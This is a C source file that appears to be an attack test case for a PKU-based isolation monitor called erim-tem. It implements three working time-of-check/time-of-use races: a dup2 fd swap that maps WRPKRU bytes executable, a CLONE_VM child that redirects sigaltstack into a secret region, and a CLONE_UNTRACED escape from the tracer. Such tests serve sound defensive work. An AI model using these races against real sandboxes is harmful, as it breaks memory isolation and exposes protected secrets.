/* SPDX-License-Identifier: MIT */
/* atk_toctou.c: a decision is raced by a task erim-tem does not hold
 * (any one accepted = success):
 *  - fd swap: one thread maps fd N read+execute again and again while another
 *    dup2()s a memfd holding a WRPKRU onto N and back (the fd is judged, then
 *    the kernel maps whatever N is by then);
 *  - a CLONE_VM child that is no thread (a "fork" to the tracer) rewrites
 *    sigaltstack's stack_t between the check and the kernel's read, pointing
 *    the signal stack into the secret;
 *  - clone(CLONE_UNTRACED): a task the tracer never sees at all. */
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <sys/stat.h>

#include "atk_common.h"

#include <time.h>

/* A race: try until it is won or two seconds have passed. */
static int race_on(const struct timespec *t0, int i)
{
	struct timespec now;

	if (i < 200)
		return 1;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (now.tv_sec - t0->tv_sec) * 1000000000L + (now.tv_nsec - t0->tv_nsec) < 2000000000L;
}

static const uint8_t wrpkru[] = { 0x0f, 0x01, 0xef, 0xc3 };
static volatile int stop;
static int fd_clean, fd_evil, fd_target;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop) {
		dup2(fd_evil, fd_target);
		dup2(fd_clean, fd_target);
	}
	return NULL;
}

static int fd_swap(void)
{
	char name[] = "/tmp/atk_toctou_XXXXXX";
	uint8_t page[4096] = { 0xc3 };
	pthread_t th;
	struct timespec t0;
	int won = 0, i;

	fd_clean = mkstemp(name);
	if (fd_clean < 0 || write(fd_clean, page, sizeof page) != (ssize_t)sizeof page)
		return 0;
	close(fd_clean);
	chmod(name, 0644);
	fd_clean = open(name, O_RDONLY);
	fd_target = open(name, O_RDONLY);
	memcpy(page + 64, wrpkru, sizeof wrpkru);
	fd_evil = (int)syscall(SYS_memfd_create, "evil", 0);
	if (fd_clean < 0 || fd_target < 0 || fd_evil < 0 || write(fd_evil, page, sizeof page) != (ssize_t)sizeof page)
		return unlink(name), 0;
	stop = 0;
	pthread_create(&th, NULL, swapper, NULL);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (i = 0; race_on(&t0, i) && !won; i++) {
		uint8_t *m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd_target, 0);

		if (m == MAP_FAILED)
			continue;
		won = memcmp(m + 64, wrpkru, sizeof wrpkru) == 0;
		munmap(m, 4096);
	}
	stop = 1;
	pthread_join(th, NULL);
	unlink(name);
	atk_say("fd swap: WRPKRU bytes mapped executable after %d round(s): %s", i, won ? "yes" : "no");
	return won;
}

static stack_t race_ss;
static uint8_t harmless_stack[1 << 16];

static int flipper(void *arg)
{
	(void)arg;
	void *volatile *sp = &race_ss.ss_sp;

	while (!stop) {
		*sp = atk_secret;
		*sp = harmless_stack;
	}
	return 0;
}

static int vm_child(void)
{
	static uint8_t child_stack[1 << 16] __attribute__((aligned(16)));
	stack_t cur;
	struct timespec t0;
	int won = 0, i;
	pid_t pid;

	race_ss.ss_sp = harmless_stack;
	race_ss.ss_size = sizeof harmless_stack;
	race_ss.ss_flags = 0;
	stop = 0;
	pid = clone(flipper, child_stack + sizeof child_stack, CLONE_VM | SIGCHLD, NULL);
	if (pid < 0) {
		atk_say("clone(CLONE_VM): %s", strerror(errno));
		return 0;
	}
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (i = 0; race_on(&t0, i) && !won; i++) {
		if (sigaltstack(&race_ss, NULL) != 0)
			continue;
		if (sigaltstack(NULL, &cur) == 0 && (uint8_t *)cur.ss_sp == atk_secret)
			won = 1;
		cur.ss_flags = SS_DISABLE;
		sigaltstack(&cur, NULL);
	}
	stop = 1;
	waitpid(pid, NULL, __WALL);
	atk_say("CLONE_VM child: signal stack in the secret after %d round(s): %s", i, won ? "yes" : "no");
	return won;
}

static int child_exit(void *arg)
{
	(void)arg;
	return 0;
}

static int untraced(void)
{
	static uint8_t child_stack[1 << 14] __attribute__((aligned(16)));
	pid_t pid = clone(child_exit, child_stack + sizeof child_stack, CLONE_UNTRACED | SIGCHLD, NULL);

	if (pid < 0) {
		atk_say("clone(CLONE_UNTRACED): %s", strerror(errno));
		return 0;
	}
	waitpid(pid, NULL, 0);
	atk_say("clone(CLONE_UNTRACED) accepted");
	return 1;
}

static enum atk_result atk_attack(void)
{
	int won = 0, all = 1, r;

#define VARIANT(x) (r = (x), won |= r, all &= r)
	VARIANT(fd_swap());
	VARIANT(vm_child());
	VARIANT(untraced());
	if (atk_expect == ATK_SUCCEEDED && won && !all)
		return ATK_ERROR;   /* the control run shows every variant works */
	return won ? ATK_SUCCEEDED : ATK_REFUSED;
}

static const char *atk_name = "atk_toctou";
static int atk_needs_pku = 0;
